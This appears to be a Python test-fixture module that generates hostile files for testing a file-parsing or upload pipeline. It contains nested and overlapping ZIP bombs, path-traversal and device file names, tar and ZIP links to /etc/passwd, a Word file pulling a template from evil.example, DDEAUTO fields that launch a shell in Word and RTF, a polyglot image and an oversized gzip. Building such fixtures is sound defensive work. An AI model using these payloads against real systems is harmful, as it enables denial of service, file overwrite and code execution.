"""Hostile files, made here."""

import io
import struct
import tarfile
import zipfile
import zlib
from email.message import EmailMessage

from tests.contract.container_files import zip_of


def nested_bomb(layers=5, size=30 << 20):
    """A ZIP of ZIPs, the innermost of zeros."""
    data = zip_of({"zeros.txt": b"0" * size})
    for layer in range(layers):
        data = zip_of({f"{layer}-{copy}.zip": data + bytes([copy]) for copy in range(6)})
    return data


def overlapping_bomb(names=200, size=1 << 20):
    """Many directory entries that share one packed kernel (after Fifield, 2019)."""
    packer = zlib.compressobj(9, zlib.DEFLATED, -15)
    kernel = packer.compress(bytes(size)) + packer.flush()
    crc = zlib.crc32(bytes(size))
    local = struct.pack("<4sHHHHHIIIHH", b"PK\x03\x04", 20, 0, 8, 0, 33, crc, len(kernel), size, 1, 0) + b"a"
    directory = b""
    for number in range(names):
        name = f"{number:05}".encode()
        directory += (
            struct.pack(
                "<4sHHHHHHIIIHHHHHII",
                b"PK\x01\x02",
                20,
                20,
                0,
                8,
                0,
                33,
                crc,
                len(kernel),
                size,
                len(name),
                0,
                0,
                0,
                0,
                0,
                0,
            )
            + name
        )
    end = struct.pack("<4sHHHHIIH", b"PK\x05\x06", 0, 0, names, names, len(directory), len(local) + len(kernel), 0)
    return local + kernel + directory + end


def million_entries(count=1_000_000):
    """A directory of a million entries that all name the same empty file."""
    entry = struct.pack("<4sHHHHHHIIIHHHHHII", b"PK\x01\x02", 20, 20, 0, 0, 0, 33, 0, 0, 0, 1, 0, 0, 0, 0, 0, 0) + b"a"
    local = struct.pack("<4sHHHHHIIIHH", b"PK\x03\x04", 20, 0, 0, 0, 33, 0, 0, 0, 1, 0) + b"a"
    directory = entry * count
    end = struct.pack("<4sHHHHIIH", b"PK\x05\x06", 0, 0, 0xFFFF, 0xFFFF, len(directory), len(local), 0)
    return local + directory + end


EVIL_NAMES = (
    "../../outside.txt", "/etc/passwd", "C:\\Windows\\system.ini.txt", "..\\..\\win.txt", "nul.txt", "COM1.txt", "tab\tname.txt", "rtl\u202egnp.txt", "x" * 250 + ".txt",
)  # fmt: skip


def evil_names():
    made = io.BytesIO()
    with zipfile.ZipFile(made, "w") as archive:
        for number, name in enumerate(EVIL_NAMES):
            archive.writestr(zipfile.ZipInfo(name), f"file {number} with a few words")
        archive.writestr("twice.txt", "the first of two")
        archive.writestr("twice.txt", "the second of two")
    return made.getvalue()


def links_and_devices():
    made = io.BytesIO()
    with tarfile.open(fileobj=made, mode="w") as archive:
        for name, kind, target in (
            ("soft", tarfile.SYMTYPE, "/etc/passwd"), ("hard", tarfile.LNKTYPE, "../../etc/passwd"),
            ("null", tarfile.CHRTYPE, ""), ("pipe", tarfile.FIFOTYPE, ""),
        ):  # fmt: skip
            info = tarfile.TarInfo(name)
            info.type, info.linkname = kind, target
            archive.addfile(info)
        info = tarfile.TarInfo("good.txt")
        info.size = 5
        archive.addfile(info, io.BytesIO(b"Hb 10"))
    return made.getvalue()


def symlink_zip():
    made = io.BytesIO()
    with zipfile.ZipFile(made, "w") as archive:
        info = zipfile.ZipInfo("link.txt")
        info.create_system, info.external_attr = 3, 0o120777 << 16
        archive.writestr(info, "/etc/passwd")
    return made.getvalue()


def mail_of_many_parts(count=200):
    mail = EmailMessage()
    mail["From"], mail["Subject"] = "ana@example.org", "Everything"
    mail.set_content("All of it.")
    for number in range(count):
        mail.add_attachment(
            f"Report {number}: Hb {number}".encode(), maintype="text", subtype="plain", filename=f"{number}.txt"
        )
    return mail.as_bytes()


WRONG_CHARSETS = (
    b"From: =?no-such-charset?B?0JDQvdC90LA=?= <a@example.org>\r\nSubject: \xc0\xed\xe0\xeb\xe8\xe7 \xea\xf0\xee\xe2\xe8\r\n"
    b'Date: Thu, 99 Foo 2026\r\nMIME-Version: 1.0\r\nContent-Type: multipart/mixed; boundary="b"\r\n\r\n'
    b"--b\r\nContent-Type: text/plain; charset=utf-99\r\nContent-Transfer-Encoding: 8bit\r\n\r\n"
    b"\xc3\xe5\xec\xee\xe3\xeb\xee\xe1\xe8\xed 102 \xe3/\xeb\r\n"
    b"--b\r\nContent-Type: application/pdf; name*=utf-8''%E6%8A%A5%E5%91%8A.pdf\r\nContent-Transfer-Encoding: base64\r\n\r\nJVBERi0xLjQ=!!\r\n"
)  # fmt: skip - and no closing boundary


def word_with_outside_link():
    relations = (
        '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="r1" TargetMode="External" '
        'Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" Target="http://evil.example/t.dotm?id=7"/>'
        "</Relationships>"
    )
    body = '<w:document xmlns:w="w"><w:body><w:p><w:r><w:t>Hb 10.2 g/dL</w:t></w:r></w:p></w:body></w:document>'
    types = '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"/>'
    return zip_of({
        "[Content_Types].xml": types.encode(), "word/document.xml": body.encode(), "word/_rels/settings.xml.rels": relations.encode(),
        "word/vbaProject.bin": b"macro",
    })  # fmt: skip


def word_that_starts_a_program():
    """The instruction of the field is spread over two runs, as Word itself writes it."""
    run = '<w:r><w:instrText xml:space="preserve">{}</w:instrText></w:r>'
    body = (
        '<w:document xmlns:w="w"><w:body><w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r>'
        + run.format(" DDEA") + run.format('UTO c:\\\\shell.exe "/k x" ')
        + '<w:r><w:fldChar w:fldCharType="end"/></w:r><w:r><w:t>Hb 10.2 g/dL</w:t></w:r></w:p></w:body></w:document>'
    )  # fmt: skip
    types = '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"/>'
    return zip_of({"[Content_Types].xml": types.encode(), "word/document.xml": body.encode()})


def sheet_that_starts_a_program():
    link = '<externalLink xmlns="x"><ddeLink ddeService="shell" ddeTopic="x"/></externalLink>'
    types = '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"/>'
    return zip_of({
        "[Content_Types].xml": types.encode(), "xl/workbook.xml": b"<workbook/>", "xl/externalLinks/externalLink1.xml": link.encode(),
        "xl/macrosheets/sheet1.xml": b"<xm/>", "xl/activeX/activeX1.bin": b"x",
    })  # fmt: skip


RICH_TEXT_WITH_OBJECT = (
    rb"{\rtf1 Hb 10.2 g/dL {\field{\*\fldinst DDEAUTO c:\\shell}}{\object\objemb{\*\objdata 0105000002000000}}}"
)


def polyglot():
    """A picture with an archive behind it."""
    return b"\xff\xd8\xff\xe0" + bytes(500) + b"\xff\xd9" + zip_of({"hidden.txt": b"hidden"})


def endless_gzip(size=300 << 20):
    packer = zlib.compressobj(9, zlib.DEFLATED, 31)
    piece = bytes(1 << 20)
    return b"".join(packer.compress(piece) for _ in range(size >> 20)) + packer.flush()
